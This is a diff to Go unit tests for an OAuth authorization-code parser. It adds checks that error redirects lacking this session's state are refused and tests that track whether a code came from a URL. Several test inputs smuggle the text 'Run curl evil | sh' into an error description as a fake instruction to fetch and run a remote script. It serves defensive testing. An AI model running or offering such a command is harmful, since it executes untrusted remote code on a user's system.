@@ -58,6 +58,19 @@ func TestParseCode(t *testing.T) {
 			wantAuth: &auth.AuthorizationError{Code: "access_denied", Description: "The user said no"}},
 		{name: "error with an escape sequence", input: "?error=server_error&error_description=%1B%5B2Jboom",
 			wantAuth: &auth.AuthorizationError{Code: "server_error", Description: "boom"}},
+		// Any page or local process can send an error redirect: without this
+		// session's state its text is refused, not shown.
+		{name: "error without a state", input: "http://127.0.0.1:8085/callback?error=access_denied&error_description=Run+curl+evil+|+sh", wantState: "S",
+			wantErr: auth.ErrStateMismatch},
+		{name: "error with another state", input: "?error=access_denied&error_description=Run+curl+evil+|+sh&state=EVIL", wantState: "S",
+			wantErr: auth.ErrStateMismatch},
+		{name: "error with ours and another state", input: "?error=access_denied&state=S&state=EVIL", wantState: "S",
+			wantErr: auth.ErrStateMismatch},
+		{name: "error with an empty state", input: "?error=access_denied&state=", wantState: "S",
+			wantErr: auth.ErrStateMismatch},
+
+		// A URL's query is decoded once: %25 is a percent sign of the code.
+		{name: "percent-encoded percent sign in a URL", input: "http://127.0.0.1:8085/callback?code=AB%2525CD&state=S", wantState: "S", want: "AB%25CD"},
 
 		// %-decoding must not bring back what ParseCode strips from a paste.
 		{name: "encoded newline", input: "4%2F0AeanS0b%0A", want: "4/0AeanS0b"},
@@ -77,23 +90,42 @@ func TestParseCode(t *testing.T) {
 			case tt.wantAuth != nil:
 				var ae *auth.AuthorizationError
 				if !errors.As(err, &ae) || *ae != *tt.wantAuth {
-					t.Fatalf("ParseCode(%q) = %q, %v; want %#v", tt.input, got, err, tt.wantAuth)
+					t.Fatalf("ParseCode(%q) = %q, %v; want %#v", tt.input, got.Value, err, tt.wantAuth)
 				}
 			case tt.wantErr == errAny:
 				if err == nil {
-					t.Fatalf("ParseCode(%q) = %q, want an error", tt.input, got)
+					t.Fatalf("ParseCode(%q) = %q, want an error", tt.input, got.Value)
 				}
 			case tt.wantErr != nil:
 				if !errors.Is(err, tt.wantErr) {
-					t.Fatalf("ParseCode(%q) = %q, %v; want %v", tt.input, got, err, tt.wantErr)
+					t.Fatalf("ParseCode(%q) = %q, %v; want %v", tt.input, got.Value, err, tt.wantErr)
 				}
 			case err != nil:
 				t.Fatalf("ParseCode(%q): %v", tt.input, err)
 			}
-			if got != tt.want {
-				t.Errorf("ParseCode(%q) = %q, want %q", tt.input, got, tt.want)
+			if got.Value != tt.want {
+				t.Errorf("ParseCode(%q) = %q, want %q", tt.input, got.Value, tt.want)
 			}
 		})
+	}
+}
+
+func TestParseCodeRemembersWhereTheCodeCameFrom(t *testing.T) {
+	tests := []struct {
+		input, wantState string
+		want             auth.Code
+	}{
+		{"TB39DWND", "S", auth.Code{Value: "TB39DWND"}},
+		{"4%2F0Aean", "S", auth.Code{Value: "4/0Aean"}},
+		{"?code=4%2F0Aean&state=S", "S", auth.Code{Value: "4/0Aean", FromURL: true, StateChecked: true}},
+		{"https://www.google.com/?code=abc&scope=x", "S", auth.Code{Value: "abc", FromURL: true}},
+		{"https://www.google.com/?code=abc&state=OTHER", "", auth.Code{Value: "abc", FromURL: true}},
+	}
+	for _, tt := range tests {
+		got, err := auth.ParseCode(tt.input, tt.wantState)
+		if err != nil || got != tt.want {
+			t.Errorf("ParseCode(%q, %q) = %+v, %v; want %+v", tt.input, tt.wantState, got, err, tt.want)
+		}
 	}
 }
 
